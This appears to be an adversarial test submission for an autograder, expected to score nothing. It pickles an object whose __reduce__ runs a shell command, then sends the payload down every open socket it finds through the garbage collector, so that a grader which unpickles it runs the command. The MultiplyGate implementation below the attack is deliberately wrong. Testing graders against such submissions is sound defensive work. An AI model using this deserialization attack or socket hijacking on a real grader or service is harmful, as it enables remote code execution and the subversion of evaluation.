# expect: no points
# why: sends a pickle that runs a command, in case somebody loads it
import gc
import os
import pickle
import socket
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/autograder-was-here",)


frame = pickle.dumps(Bomb())
for thing in gc.get_objects():
    if isinstance(thing, socket.socket):
        thing.sendall(struct.pack("<I", len(frame)) + frame)


class MultiplyGate:
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
